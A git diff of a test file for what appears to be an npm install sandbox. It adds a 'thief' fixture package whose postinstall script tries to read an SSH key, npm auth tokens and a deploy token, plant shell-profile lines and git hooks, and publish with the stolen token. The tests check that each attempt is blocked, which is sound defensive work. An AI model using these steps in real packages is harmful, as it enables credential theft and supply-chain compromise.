@@ -2,53 +2,25 @@ import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { createMachine } from "../support/machine.ts";
+import { reaching, running, trying } from "../support/install-scripts.ts";
 import type { FixturePackage } from "../support/registry/packages.ts";
 import { startRegistry } from "../support/registry/registry.ts";
 
-/** An install script that tries these and says on standard error what it saw; it fails at nothing. */
-function trying(attempts: Readonly<Record<string, string>>): string {
-  const tries = Object.entries(attempts).map(
-    ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`,
-  );
-  return `
-const fs = require("node:fs");
-const net = require("node:net");
-const path = require("node:path");
-const seen = {};
-async function attempt(name, work) {
-  try { seen[name] = String(await work()); } catch (error) { seen[name] = error.code ?? error.message; }
-}
-(async () => {
-  ${tries.join("\n  ")}
-  fs.writeFileSync(path.join(process.env.INIT_CWD, "seen.json"), JSON.stringify(seen));
-})();
-`;
-}
-
-const REACH = (host: string, port: string): string =>
-  `return new Promise((resolve) => { const socket = net.connect({ host: "${host}", port: ${port} }, () => { socket.destroy(); resolve("connected"); }); socket.on("error", (error) => resolve(error.code)); })`;
-
-function thief(homeOfVictim: string, port: string): FixturePackage {
-  const script = trying({
-    key: `return fs.readFileSync("${homeOfVictim}/.ssh/id_ed25519", "utf8")`,
-    npmrc: `return /sesame/.test(fs.readFileSync("${homeOfVictim}/.npmrc", "utf8"))`,
-    home: `return fs.readdirSync("${homeOfVictim}").filter((name) => !name.startsWith(".npm") && name !== ".cache")`,
+function thief(home: string, port: string): FixturePackage {
+  const attempts = {
+    key: `return fs.readFileSync("${home}/.ssh/id_ed25519", "utf8")`,
+    npmrc: `return fs.readFileSync("${home}/.npmrc", "utf8").includes("sesame")`,
+    ofProject: `return fs.readFileSync(path.join(project, ".npmrc"), "utf8").includes("sesame")`,
+    home: `return fs.readdirSync("${home}").filter((name) => ![".npmrc", ".cache", ".npm"].includes(name))`,
     variable: `return process.env.DEPLOY_TOKEN`,
-    profile: `fs.appendFileSync("${homeOfVictim}/.bashrc", "echo stolen\\n"); return "written"`,
-    outside: `fs.writeFileSync("${homeOfVictim}/../outside.txt", "x"); return "written"`,
-    hook: `fs.writeFileSync(path.join(process.env.INIT_CWD, ".git/hooks/post-commit"), "x"); return "written"`,
-    workflow: `fs.mkdirSync(path.join(process.env.INIT_CWD, ".github/workflows"), { recursive: true }); return "written"`,
-    elsewhere: REACH("127.0.0.1", port),
-  });
-  return {
-    name: "thief",
-    versions: {
-      "1.0.0": {
-        manifest: { scripts: { postinstall: "node steal.js" } },
-        files: { "steal.js": script },
-      },
-    },
+    profile: `fs.appendFileSync("${home}/.bashrc", "echo stolen\\n"); return "written"`,
+    outside: `fs.writeFileSync("${home}/../outside.txt", "x"); return "written"`,
+    hook: `fs.writeFileSync(path.join(project, ".git/hooks/post-commit"), "x"); return "written"`,
+    workflow: `fs.mkdirSync(path.join(project, ".github/workflows"), { recursive: true }); return "written"`,
+    elsewhere: reaching("127.0.0.1", port),
+    publishing: `const url = process.env.npm_config_registry ?? process.env.YARN_NPM_REGISTRY_SERVER; return (await fetch(new URL("thief", url), { method: "PUT", body: "{}", headers: { authorization: fs.readFileSync(process.env.npm_config_userconfig, "utf8").match(/_authToken=(.*)/)?.[1].replace(/^/, "Bearer ") } })).status`,
   };
+  return running("thief", trying(attempts));
 }
 
 function plant(path: string, text: string): void {
@@ -57,7 +29,7 @@ function plant(path: string, text: string): void {
 }
 
 describe("an install script", { timeout: 90_000 }, () => {
-  it("reads no credential, changes nothing of the person's and reaches nobody; the summary says so", async () => {
+  it("gets no credential, changes nothing and reaches nobody; the summary says so", async () => {
     const registry = await startRegistry();
     const machine = await createMachine(registry, {
       npmrc: ["//npm.corp.invalid/:_authToken=sesame"],
@@ -68,11 +40,13 @@ describe("an install script", { timeout: 90_000 }, () => {
     plant(join(home, ".ssh", "id_ed25519"), "sesame");
     plant(join(home, ".bashrc"), "");
     plant(join(machine.project, ".git", "hooks", "pre-commit.sample"), "");
+    machine.write(".npmrc", "//npm.corp.invalid/:_authToken=sesame\n");
     registry.add(thief(home, new URL(registry.url).port));
     const run = await machine.veln("npm", "install", "thief");
     expect(JSON.parse(machine.read("seen.json"))).toEqual({
       key: "ENOENT",
       npmrc: "false",
+      ofProject: "false",
       home: "",
       variable: "undefined",
       profile: "written",
@@ -80,6 +54,7 @@ describe("an install script", { timeout: 90_000 }, () => {
       hook: "EROFS",
       workflow: expect.stringMatching(/^(?:ENOENT|EROFS)$/) as string,
       elsewhere: "ECONNREFUSED",
+      publishing: "403",
     });
     // What was written outside went into folders of the room, and with it.
     expect([
@@ -98,6 +73,8 @@ describe("an install script", { timeout: 90_000 }, () => {
     ]) {
       expect(said).toContain(line);
     }
-    expect(run.code).toBe(0);
+    expect(said).toContain("a script wanted this done with your account: PUT /thief");
+    expect(registry.requests.filter(({ method }) => method === "PUT")).toEqual([]);
+    expect(run.code).toBe(1);
   });
 });
